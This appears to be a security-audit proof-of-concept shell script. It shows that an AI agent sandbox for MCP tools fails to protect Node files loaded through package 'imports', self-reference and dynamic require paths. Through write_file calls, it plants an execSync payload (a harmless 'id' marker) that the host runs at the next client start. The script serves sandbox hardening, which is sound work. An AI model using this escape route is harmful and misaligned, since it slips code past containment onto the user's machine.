#!/bin/sh
# atk38b F5: the follower (what a protected config starts is protected) reads relative specifiers and, since
# db6eec7, bare ones through node_modules links. Node resolves two more kinds of specifier inside the package,
# without node_modules: package.json "imports" ("#lib" -> ./lib.js, Node's subpath imports) and a package's
# self-reference by its own name through "exports" ("srv/util" -> ./util.js). Nor is the everyday CJS
# require(path.join(__dirname, 'pj.js')): a specifier that is not a literal is dropped, not counted as not judged. Neither is followed nor counted as
# not judged: the file they load is unprotected, a call's rewrite of it is committed, and the host's protected
# program runs it at the client's next start. Plain ext4, default policy, seconds. Run as root.
set -e
. /work/notes/atk38b/setup.sh
D=/tmp/atk38b/f5; rm -rf $D; mkdir -p $D; pol $D
mkdir -p $D/ws/server
cat > $D/ws/.mcp.json <<'J'
{ "mcpServers": { "tools": { "command": "node", "args": ["server/index.js"] } } }
J
cat > $D/ws/server/package.json <<'J'
{ "name": "srv", "imports": { "#lib": "./lib.js" }, "exports": { "./util": "./util.js" } }
J
printf "require('#lib');\nrequire('srv/util');\nrequire('./rel.js');\nrequire(require('path').join(__dirname, 'pj.js'));\n" > $D/ws/server/index.js
for f in lib util rel pj; do echo "module.exports = 1;" > $D/ws/server/$f.js; done
chown -R 65534:65534 $D/ws
python3 - <<PY
import sys; sys.path.insert(0,'/tmp/atk38b'); from stdio import *
s=Stdio(['/tmp/atk38b/mcpsandbox','serve','--policy','$D/pol.toml'])
evil='require("child_process").execSync("id > /tmp/PWNED-atk38b"); module.exports = 1;\n'
for p in ['server/rel.js','server/lib.js','server/util.js','server/pj.js']:
    print("== write_file %s:" % p, text(s.call('write_file',{'path':p,'content':evil})).strip()[:300])
# the map itself is no more protected: a call may point #lib at any file (same content written back here)
pj=open('$D/ws/server/package.json').read()
print("== write_file server/package.json:", text(s.call('write_file',{'path':'server/package.json','content':pj})).strip()[:300])
s.close()
PY
for p in rel lib util pj; do echo "== host's server/$p.js now: $(cat $D/ws/server/$p.js)"; done
rm -f /tmp/PWNED-atk38b
echo "== the client's next start (node server/index.js), as the user:"
(cd $D/ws && su nobody -s /bin/sh -c 'node server/index.js' 2>&1 | head -3) || true
echo "== /tmp/PWNED-atk38b: $(cat /tmp/PWNED-atk38b 2>/dev/null || echo absent)"; rm -f /tmp/PWNED-atk38b
